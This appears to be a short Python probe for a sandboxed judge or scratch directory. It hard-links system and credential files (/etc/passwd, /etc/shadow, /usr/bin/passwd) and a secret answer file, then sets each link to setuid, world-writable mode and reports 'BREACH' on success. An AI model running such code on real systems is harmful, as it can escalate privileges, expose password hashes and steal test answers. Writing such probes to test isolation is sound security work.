"""Hard links to files of others in scratch: a trusted side that changes owner or mode there changes theirs."""
import os
import sys

target = sys.stdin.read().split()[0]
for n, path in enumerate(("/etc/passwd", "/etc/shadow", target + "/writable", target + "/secret/001.ans", "/usr/bin/passwd", sys.argv[0], "/proc/self/exe")):
    try:
        os.link(path, f"link{n}", follow_symlinks=False)
        os.chmod(f"link{n}", 0o6777)
        print("BREACH changed", path)
    except OSError:
        pass
print("done")
